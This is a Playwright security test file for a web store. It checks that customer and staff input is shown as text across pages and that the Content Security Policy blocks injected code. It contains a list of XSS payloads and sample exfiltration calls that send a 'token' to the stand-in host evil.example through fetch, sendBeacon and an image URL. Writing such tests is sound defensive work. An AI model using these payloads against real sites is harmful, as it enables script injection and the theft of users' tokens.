import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import Database from 'better-sqlite3'
import type { BrowserContext } from '@playwright/test'
import { expect, type Somebody, test } from './store.ts'

/** What has run somewhere, in the one form or the other; `ran` is a function in every page of these tests. */
const payloads = [
  '<script>ran(1)</script>',
  '<img src=x onerror=ran(2)>',
  '<svg onload=ran(3)>',
  '<svg><script>ran(4)</script></svg>',
  '<iframe srcdoc="<script>parent.ran(5)</script>"></iframe>',
  '<a href="javascript:ran(6)" id="bait">bait</a>',
  '<a href="jav&#x09;ascript:ran(7)">bait</a>',
  '<a href="data:text/html,<script>opener.ran(8)</script>">bait</a>',
  '<p onmouseover=ran(9) style="position:fixed;inset:0">over</p>',
  '<details open ontoggle=ran(10)>x</details>',
  '<input autofocus onfocus=ran(11)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran(12)&gt;">',
  '<form action="javascript:ran(13)"><button>send</button></form>',
  '<object data="javascript:ran(14)"></object>',
  '<meta http-equiv="refresh" content="0;url=javascript:ran(15)">',
  '</script><script>ran(16)</script>',
  '"><script>ran(17)</script>',
  "'-ran(18)-'",
  '{{constructor.constructor("ran(19)")()}}',
  '${ran(20)}',
  '<!--<img src="--><img src=x onerror=ran(21)//">',
  '<style>@import "javascript:ran(22)";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
]
const all = payloads.join('\n')

/** Counts what runs in the pages of this browser, and answers nothing that another site is asked. */
async function watch(context: BrowserContext) {
  const ran: unknown[] = []
  const abroad: string[] = []
  await context.exposeFunction('ran', (which: unknown) => void ran.push(which))
  await context.route(/evil\.example/, (route) => (abroad.push(route.request().url()), route.abort()))
  return { ran, abroad }
}

test('what customers and staff write is shown as text, wherever it is shown', async ({
  signedIn,
  newcomer,
  store,
  browse,
}) => {
  test.setTimeout(120_000)
  const staff = await signedIn('staff@example.com')
  const ada = await newcomer()
  const visitor = await browse()
  const watched = await Promise.all([staff.context, ada.context, visitor.context()].map(watch))
  const { item, order } = await plant(staff, ada, store.file)

  const looks: [Somebody['page'], string][] = [
    [visitor, `/items/${item}`],
    [visitor, `/items?q=${encodeURIComponent(payloads[1]!)}&category=${encodeURIComponent(payloads[0]!)}`],
    [visitor, `/auth?from=${encodeURIComponent('javascript:ran(30)')}`],
    [ada.page, `/orders/details/${order}`],
    [ada.page, '/support'],
    [ada.page, '/notifications'],
    [ada.page, '/profile'],
    [staff.page, '/admin/payments'],
    [staff.page, `/admin/orders/${order}`],
    [staff.page, `/admin/support/${ada.id}`],
    [staff.page, '/admin/reviews'],
    [staff.page, `/admin/customers/${ada.id}`],
  ]
  for (const [page, path] of looks) {
    await page.goto(path)
    await page.waitForLoadState('networkidle')
    await page.mouse.move(300, 300)
    // Nothing planted has become an element that could run, load or lead somewhere.
    const found = await page.evaluate(() =>
      [...document.querySelectorAll('main *')]
        .filter((one) =>
          [...one.attributes].some(
            ({ name, value }) => name.startsWith('on') || /^\s*(javascript|data:text)/i.test(value),
          ),
        )
        .map((one) => one.outerHTML),
    )
    expect(found, path).toEqual([])
    // What search engines read is data, and stays within its element.
    for (const text of await page.locator('[type="application/ld+json"]').allTextContents()) JSON.parse(text)
    const code = 'main script:not([type="application/ld+json"])'
    expect(await page.locator(`${code}, main iframe, main object, main base, main meta`).count(), path).toBe(0)
  }
  for (const { ran, abroad } of watched) expect([ran, abroad]).toEqual([[], []])
})

/** Through the front door; and, as if that had let it pass, into the description's row itself. */
async function plant(staff: Somebody, ada: Somebody, file: string) {
  const items = (await staff.call('GET', '/items?limit=1')).data as unknown as { _id: string }[]
  const item = items[0]!._id
  const db = new Database(file)
  db.pragma('busy_timeout = 5000')
  db.prepare('update items set description = ?, short_description = ?, name = ? where id = ?').run(
    all,
    payloads[1],
    payloads[0],
    item,
  )
  db.prepare('update users set first_name = ?, last_name = ? where id = ?').run(payloads[1], payloads[0], ada.id)
  db.close()
  const done = async (told: Promise<{ success: boolean; message?: string; data: Record<string, unknown> }>) => {
    const { success, message, data } = await told
    expect(success, message).toBe(true)
    return data
  }
  await done(ada.call('POST', '/reviews', { item, stars: 5, description: all.slice(0, 1900) }))
  await done(ada.call('POST', '/support-chat/message', { message: all.slice(0, 3900), item }))
  await done(staff.call('POST', '/support-chat/message', { message: all.slice(0, 3900), userId: ada.id }))
  await done(ada.call('POST', '/cart', { item, count: 1 }))
  const order = (await done(ada.call('POST', '/checkout', { paymentMethod: 'bank' })))._id as string
  await done(ada.call('PATCH', `/checkout/${order}/mark-paid`, { reference: payloads[1] }))
  await done(staff.call('PATCH', `/admin/orders/${order}/reject`, { reason: all.slice(0, 490) }))
  return { item, order }
}

test.describe('a script that somebody planted', () => {
  test.use({ provoked: /Content Security Policy|ERR_FAILED|ERR_BLOCKED/ })

  test('does not run: the policy of the page forbids it', async ({ browse }) => {
    const page = await browse()
    const { ran, abroad } = await watch(page.context())
    await page.goto('/items')
    const forbidden: string[] = []
    await page.exposeFunction('forbid', (what: string) => void forbidden.push(what))
    await page.evaluate(() => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
        const [site = ''] = /^\w+:\/\/[^/]+|^[\w-]+/.exec(blockedURI) ?? []
        Reflect.get(window, 'forbid')(`${effectiveDirective} ${site}`)
      })
      const add = (name: string, set: Record<string, string>, text = '') => {
        const one = document.createElement(name)
        for (const [key, value] of Object.entries(set)) one.setAttribute(key, value)
        one.textContent = text
        document.body.append(one)
        return one
      }
      add('script', {}, 'ran(1)')
      add('script', { src: 'https://evil.example/x.js' })
      add('script', { src: 'data:text/javascript,ran(2)' })
      add('img', { src: '/none', onerror: 'ran(3)' })
      add('iframe', { srcdoc: '<script>parent.ran(4)</script>' })
      add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' })
      add('a', { href: 'javascript:ran(5)' }).click()
      add('base', { href: 'https://evil.example/' })
      void fetch('https://evil.example/take', { method: 'POST', body: 'token' }).catch(() => {})
      navigator.sendBeacon('https://evil.example/take', 'token')
      new Image().src = 'https://evil.example/take?token'
    })
    // Of each of them the browser says that it was refused, and by what.
    await expect
      .poll(() => forbidden.toSorted())
      .toEqual([
        'base-uri https://evil.example',
        'connect-src https://evil.example',
        'connect-src https://evil.example',
        'img-src https://evil.example',
        'script-src-attr inline',
        'script-src-elem data',
        'script-src-elem https://evil.example',
        'script-src-elem inline',
        'script-src-elem inline',
        'style-src-elem https://evil.example',
      ])
    expect([ran, abroad]).toEqual([[], []])
  })

  test('nor does another site get the store into a frame', async ({ browse, store }) => {
    const page = await browse()
    // Of this machine too: a page from abroad is kept from here by the browser itself, whatever the store says.
    const frames = ['/', '/faq'].map(
      (path) => `<iframe src="${store.address}${path}" onload="document.body.dataset.loaded += '.'"></iframe>`,
    )
    const elsewhere = createServer((_, response) => {
      response.setHeader('content-type', 'text/html').end(`<body data-loaded="">${frames.join('')}`)
    })
    elsewhere.listen(0, '127.0.0.1')
    await once(elsewhere, 'listening')
    // One that forbids nothing shows that a frame can be seen here.
    await page.route('**/faq', async (route) => {
      const answer = await route.fetch()
      await route.fulfill({ response: answer, headers: { 'content-type': 'text/html' } })
    })
    const asked = page.waitForResponse(`${store.address}/`)
    await page.goto(`http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`)
    await asked
    await expect(page.locator('body'), 'both have come to their end').toHaveAttribute('data-loaded', '..')
    const mains = page.locator('iframe').nth(1).contentFrame().getByRole('main')
    await expect(mains.first(), 'the one that may be there').toBeVisible()
    await expect(page.locator('iframe').nth(0).contentFrame().getByRole('main')).toHaveCount(0)
    elsewhere.close()
  })
})
